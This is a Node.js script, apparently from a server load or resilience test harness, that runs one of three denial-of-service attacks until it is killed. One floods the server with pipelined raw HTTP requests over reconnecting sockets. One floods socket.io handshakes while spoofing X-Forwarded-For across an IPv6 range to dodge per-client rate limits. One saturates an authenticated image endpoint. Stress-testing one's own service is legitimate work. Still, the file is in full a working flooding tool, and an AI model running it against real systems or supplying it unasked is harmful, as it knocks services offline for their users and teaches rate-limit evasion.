import { connect } from 'node:net';

/*
 * One attack on a server, in a process of its own so that it does not slow down what is measured beside it. Runs until it is killed.
 *   node attacker.mjs <url> pipeline <path> | handshakes <56 | one address> | pictures <path> <token>
 */

const [url, kind, ...how] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const POLLING = '/ws/socket.io/?EIO=4&transport=polling';

/** Keeps so many connections open, each of which sends all it has at once. */
function pipeline(path) {
  const requests = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`.repeat(20_000));
  const begin = () => {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => undefined);
    socket.on('close', () => setTimeout(begin, 1));
    socket.resume();
    socket.write(requests);
  };
  for (let n = 0; n < 20; n++) begin();
}

async function repeat(atOnce, ask) {
  await Promise.all(
    Array.from({ length: atOnce }, async () => {
      for (;;) await ask().catch(() => undefined);
    }),
  );
}

let asked = 0;
const attacks = {
  pipeline: () => pipeline(how[0]),
  handshakes: () =>
    repeat(32, async () => {
      const from = how[0] === '56' ? `2001:db8:0:${(asked++ % 20).toString(16)}::1` : how[0];
      await (await fetch(`${url}${POLLING}`, { headers: { 'x-forwarded-for': from } })).text();
    }),
  pictures: () =>
    repeat(60, async () => {
      await (
        await fetch(`${url}/api${how[0]}`, { headers: { authorization: `Bearer ${how[1]}`, 'x-forwarded-for': '192.0.2.1' } })
      ).arrayBuffer();
    }),
};
await attacks[kind]();
